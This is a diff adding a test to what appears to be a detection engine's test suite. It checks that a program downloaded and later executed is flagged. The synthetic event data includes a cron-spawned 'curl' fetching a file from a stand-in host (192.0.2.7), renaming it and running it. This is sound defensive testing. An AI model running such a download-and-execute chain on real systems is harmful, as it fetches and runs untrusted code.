@@ -216,3 +216,17 @@ def test_what_a_process_did_before_its_start_was_told_is_not_lost(tmp_path: Path
         block=2,
     )
     assert [one.stages["landed"].state for one in found] == ["seen"]
+
+
+def test_a_program_that_ran_before_is_looked_at_once_its_file_was_brought_in(tmp_path: Path) -> None:
+    found = _told_of(
+        [
+            (0, _start(610, 1, "cron", None)),
+            (1, {**FETCH, "argv": ("curl", "-o", "/tmp/a", "http://192.0.2.7/a")}),
+            (1_000, {**_start(612, 610, "q", None), "process_path": "/tmp/q"}),
+            (1_001, {**CRON, "kind": EventKind.FILE_RENAME, "file_old_path": "/tmp/a", "file_path": "/tmp/q"}),
+            (9_000, {**_start(613, 610, "q", None), "process_path": "/tmp/q"}),
+        ],
+        tmp_path,
+    )
+    assert [one.stages["run"].state for one in found] == ["seen"]
